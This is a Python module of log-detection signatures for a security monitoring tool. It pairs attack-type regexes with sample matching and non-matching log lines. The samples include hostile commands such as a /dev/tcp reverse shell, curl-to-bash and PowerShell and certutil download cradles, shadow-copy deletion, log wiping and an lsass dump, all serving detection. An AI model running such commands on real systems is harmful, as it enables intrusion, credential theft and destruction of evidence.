"""Signatures of attacks on hosts and of what attackers leave behind."""

from __future__ import annotations

from soc.domain.classification import Classification as C
from soc.logs.signatures.model import Signature as S

ALERT = C.SECURITY_ALERT

ATTACK: tuple[S, ...] = (
    S(
        "threat.apt", "Advanced persistent threat", r"\badvanced persistent threat\b|\bAPT-?\d{1,2}\b.{0,40}?\b(?:detected|activity|group)\b", ALERT, 9, 0.95,
        ("SECURITY ALERT: Advanced persistent threat detected", "APT29 activity on HOST7"), ("apt install curl",),
    ),
    S(
        "threat.malware", "Malware found", r"\b(?:malware|virus|trojan|rootkit|spyware|backdoor|keylogger|botnet|cryptominer|coin ?miner|worm)\b.{0,60}?\b(?:detected|found|blocked|quarantined|identified|infect(?:ed|ion)|activity|installed|removed|alert)\b", ALERT, 9, 0.9,
        ("Malware Emotet detected on HOST7", "Trojan.Agent found in invoice.exe"), ("antivirus definitions updated", "no virus found"), "T1204",
    ),
    S(
        "threat.malware-found", "Malware found", r"\b(?:detected|found|blocked|quarantined|infected (?:with|by))\b.{0,30}?\b(?:malware|virus|trojan|rootkit|ransomware|spyware|backdoor|exploit|shellcode|cryptominer|FOUND)\b|: \S{3,80} FOUND\b", ALERT, 9, 0.85,
        ("Quarantined trojan in /tmp/x", "/srv/up/a.zip: Win.Trojan.Agent-1 FOUND"), ("detected 4 processors",), "T1204",
    ),
    S(
        "threat.ransomware", "Ransomware", r"\b(?:ransomware|files? (?:have been|were) encrypted by|ransom note|your files are encrypted|(?:lockbit|wannacry|ryuk|revil|blackcat|conti) (?:ransomware|detected|payload))\b", ALERT, 10, 0.95,
        ("Ransomware activity: 900 files renamed to .lock", "ransom note README_DECRYPT.txt written"), ("handsome software",), "T1486",
    ),
    S(
        "threat.credential-dump", "Credential dumping", r"\b(?:mimikatz|sekurlsa|lsadump|kerberoast(?:ing)?|dcsync|pass-the-(?:hash|ticket)|golden ticket|procdump(?:\.exe|64)?.{0,40}?lsass|lsass(?:\.exe)?.{0,20}?(?:dump|minidump)|comsvcs\.dll.{0,10}?minidump|secretsdump|ntdsutil.{0,40}?ifm|hashdump)\b", ALERT, 10, 0.95,
        ("process mimikatz.exe started by eve", "rundll32 comsvcs.dll, MiniDump 624 lsass.dmp full"), ("lsass.exe started",), "T1003",
    ),
    S(
        "threat.c2", "Command and control", r"\b(?:cobalt ?strike|meterpreter|metasploit|command[- ]and[- ]control|c2 (?:beacon|server|traffic|channel)|beacon(?:ing)? (?:detected|to)|reverse shell|empire agent|sliver implant|brute ratel)\b", ALERT, 9, 0.9,
        ("C2 beacon to 203.0.113.9:443", "Cobalt Strike stager seen", "reverse shell spawned by httpd"), ("command line opened",), "T1071",
    ),
    S(
        "threat.exfiltration", "Data taken out", r"\b(?:data (?:exfiltration|leak(?:age)?|theft|breach)|exfiltrat(?:ed|ion|ing)|dns tunnel(?:l?ing)?|unusual (?:outbound|upload|data) (?:traffic|transfer|volume)|large (?:outbound|data) transfer)\b", ALERT, 9, 0.85,
        ("Possible data exfiltration: 4 GB to 203.0.113.9", "DNS tunneling suspected on WS4"), ("data exported to report",), "T1041",
    ),
    S(
        "threat.breach", "Breach", r"\b(?:(?:potential|possible|security|confirmed|suspected|system) (?:security )?(?:breach|compromise|intrusion)|(?:has|have) been (?:compromised|breached|hacked)|(?:host|account|system|server) (?:is )?compromised|unauthori[sz]ed (?:access|entry|login|connection|modification|change)(?: attempt)?)\b", ALERT, 8, 0.85,
        ("potential breach of db1", "Unauthorized access attempt to vault", "account has been compromised"), ("breach of contract clause",), "T1078",
    ),
    S(
        "threat.intrusion", "Intrusion or attack reported", r"\b(?:intrusion (?:detected|attempt|prevention)|attack (?:detected|blocked|attempt|from|signature)|(?:exploit|attack) attempt|under attack|exploitation (?:attempt|detected)|security (?:alert|violation|incident)|suspicious (?:activity|process|behaviou?r|login|traffic|file|command|connection|request|powershell))\b", ALERT, 7, 0.85,
        ("IDS: intrusion detected from 203.0.113.9", "Suspicious process cmd.exe under w3wp", "SECURITY ALERT raised"), ("heart attack statistics page",), "T1190",
    ),
    S(
        "threat.privilege-escalation", "Privilege escalation", r"\b(?:privilege escalation|escalat(?:ed|ion of|ing) privileges?|elevation of privilege|gained root|got root|uid changed to 0|dirty ?(?:cow|pipe)|pwnkit|token impersonation|uac bypass)\b", ALERT, 9, 0.9,
        ("Privilege escalation by eve on db1", "process 44 gained root"), ("escalation policy saved",), "T1068",
    ),
    S(
        "threat.log-cleared", "Audit log cleared", r"\b(?:(?:audit|security|event|system) (?:event )?logs? (?:was |were |has been |have been )?(?:cleared|deleted|wiped|truncated)|wevtutil(?:\.exe)? (?:cl|clear-log)|clear-eventlog|(?:rm|shred|truncate) .{0,30}?/var/log/\S{1,60}|history -c)\b", ALERT, 9, 0.9,
        ("The audit log was cleared by eve", "wevtutil cl Security", "rm -f /var/log/auth.log"), ("logs rotated",), "T1070.001",
    ),
    S(
        "threat.defence-off", "Protection switched off", r"\b(?:(?:antivirus|anti-malware|defender|firewall|selinux|edr|real-?time protection|auditd|audit(?:ing)?|endpoint protection)\b.{0,30}?\b(?:disabled|turned off|stopped|deactivated|uninstalled|tampered)|set-mppreference.{0,40}?disable|setenforce 0|ufw disable|netsh advfirewall set .{0,20}?off)\b", ALERT, 8, 0.85,
        ("Defender real-time protection disabled by eve", "setenforce 0"), ("firewall rule enabled",), "T1562.001",
    ),
    S(
        "threat.port-scan", "Port scan", r"\b(?:port ?-?scan(?:ning|ned)?|network scan|syn scan|nmap(?: scripting engine)?|masscan|zmap|zgrab|host sweep|scan detected|scanning (?:detected|activity))\b", ALERT, 7, 0.85,
        ("Port scan detected from 203.0.113.9", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ("scanner printed a page",), "T1046",
    ),
    S(
        "threat.ddos", "Denial of service", r"\b(?:d?dos attack|denial[- ]of[- ]service|syn flood(?:ing)?|udp flood|icmp flood|http flood|smurf attack|amplification attack|possible syn flooding)\b", ALERT, 8, 0.85,
        ("possible SYN flooding on port 80. Sending cookies.", "DDoS attack on edge2"), ("flood insurance page",), "T1498",
    ),
    S(
        "threat.powershell", "Hidden PowerShell", r"\bpowershell.{0,40}?(?: -e(?:nc|ncodedcommand)? |-w(?:indowstyle)? hidden|downloadstring|downloadfile|frombase64string|invoke-expression|iex |bypass|-nop )", ALERT, 8, 0.85,
        ("powershell.exe -nop -w hidden -enc SQBFAFgA", "powershell IEX (New-Object Net.WebClient).DownloadString('x')"), ("powershell get-help",), "T1059.001",
    ),
    S(
        "threat.lolbin", "System tool used to fetch or run code", r"\b(?:certutil(?:\.exe)?.{0,60}?(?:-urlcache|-decode|/urlcache)|bitsadmin(?:\.exe)?.{0,40}?/transfer|mshta(?:\.exe)?.{0,20}?(?:https?:|javascript:|vbscript:)|regsvr32(?:\.exe)?.{0,40}?scrobj|rundll32(?:\.exe)?.{0,40}?(?:javascript:|url\.dll)|wmic(?:\.exe)?.{0,40}?process call create|psexec(?:svc)?(?:\.exe)?)\b", ALERT, 8, 0.85,
        ("certutil.exe -urlcache -split -f http://203.0.113.9/a.exe", "PSEXESVC: psexec started"), ("certutil -viewstore",), "T1218",
    ),
    S(
        "threat.shadow-copies", "Recovery switched off", r"\b(?:vssadmin(?:\.exe)? delete shadows|wbadmin(?:\.exe)? delete|bcdedit(?:\.exe)?.{0,40}?recoveryenabled|wmic shadowcopy delete)\b", ALERT, 9, 0.95,
        ("vssadmin delete shadows /all /quiet",), ("vssadmin list shadows",), "T1490",
    ),
    S(
        "threat.download-run", "Code fetched and run", r"\b(?:curl|wget)\b.{0,100}?\|\s?(?:sudo )?(?:ba|z|k|da)?sh\b|/dev/tcp/\d|\bnc(?:at)? .{0,20}?-e /bin/|\bbash -i\b|\bpython\d? -c .{0,20}?import socket|base64 -d\b.{0,20}?\|\s?(?:ba)?sh\b", ALERT, 9, 0.9,
        ("CRON: curl -s http://203.0.113.9/x.sh | bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("curl https://example.com -o a.html",), "T1059.004",
    ),
    S(
        "threat.persistence", "Persistence", r"\b(?:(?:new|suspicious) (?:scheduled task|cron ?job|service|startup item)\b.{0,40}?\b(?:created|added|installed|detected)|schtasks(?:\.exe)? /create|authorized_keys (?:was )?(?:modified|changed|added)|\\currentversion\\run\b|currentversion\\\\run\b)", ALERT, 7, 0.75,
        ("schtasks.exe /create /tn upd /tr c:\\a.exe", "/root/.ssh/authorized_keys modified by pid 4"), ("scheduled task finished",), "T1053",
    ),
    S(
        "threat.integrity", "File changed that must not", r"\b(?:integrity (?:check(?:sum)? )?(?:failed|violation|changed)|checksum (?:mismatch|changed)|file (?:was )?tampered)\b|/etc/(?:passwd|shadow|sudoers) (?:was )?(?:modified|changed)\b", ALERT, 7, 0.8,
        ("/etc/shadow was modified by eve", "Integrity checksum changed for '/bin/login'"), ("checksum matches",), "T1565",
    ),
    S(
        "threat.arp", "Address spoofing", r"\b(?:arp (?:spoof(?:ing)?|poison(?:ing)?)|ip spoof(?:ing|ed)?|rogue (?:dhcp|access point|ap)|martian source|dhcp starvation|evil twin|mac flip-?flop|flip flop)\b", ALERT, 7, 0.85,
        ("ARP spoofing: 192.0.2.1 claimed by two MACs", "martian source 203.0.113.1 from 192.0.2.3"), ("arp cache flushed",), "T1557",
    ),
    S(
        "threat.phishing", "Phishing", r"\b(?:phish(?:ing)?|spoofed sender|business email compromise|malicious (?:link|attachment|url|domain|file|ip|payload|macro))\b", ALERT, 7, 0.85,
        ("Phishing mail reported by alice", "Malicious attachment blocked"), ("fishing boat",), "T1566",
    ),
    S(
        "threat.memory", "Memory corruption", r"\b(?:buffer overflow|stack smashing detected|heap corruption|heap-buffer-overflow|use[- ]after[- ]free|return-?oriented|format string attack)\b", ALERT, 8, 0.8,
        ("*** stack smashing detected ***: terminated", "buffer overflow in httpd worker"), ("overflow: hidden",), "T1203",
    ),
    S(
        "threat.firewall-drop", "Firewall refused a connection", r"(?:\[ufw block\]|\biptables.{0,20}?(?:drop|reject|denied)|\bin=\S{0,20} .{0,20}?\bmac=|%asa-\d-(?:106023|106001|106006|710003)|\baction=\"?(?:deny|drop|block|blocked)\b|\bdenied (?:tcp|udp|icmp))", ALERT, 4, 0.7,
        ("kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9", "%ASA-4-106023: Deny tcp src outside"), ("firewall started",), "T1046",
    ),
    S(
        "threat.relay", "Relay or spam refused", r"\b(?:relay(?:ing)? (?:access )?(?:denied|attempt)|noqueue: reject|(?:sender|client|host|helo|message)(?: \S{1,40}){0,2} rejected|rejected (?:by local_scan|after data|because)|flagged as spam|dns blacklist|improper command pipelining|pregreet \d|command (?:count|time|length) limit|request rate limit exceeded|unknown recipient|blocked using \S{1,60}|spamhaus|listed (?:in|by) \S{1,40}(?:rbl|dnsbl|spamhaus)|rejected rcpt|too many errors after (?:auth|rcpt|helo)|helo command rejected|recipient address rejected|sender verify fail|relay not permitted)\b", ALERT, 5, 0.75,
        ("NOQUEUE: reject: RCPT from x[203.0.113.9]: 554 Relay access denied", "rejected RCPT <a@b>"), ("relay switched on",), "T1566",
    ),
    S(
        "threat.blocked-address", "Address blocked", r"\b(?:(?:ban|banned|banning|blacklisted|blocklisted) \[?\d{1,3}\.\d|(?:ip|address|host|client)\b.{0,40}?\b(?:banned|blacklisted|blocked|blocklisted))\b", ALERT, 5, 0.8,
        ("fail2ban.actions: NOTICE [sshd] Ban 203.0.113.9", "client 203.0.113.9 blocked"), ("banner shown",), "T1110",
    ),
)
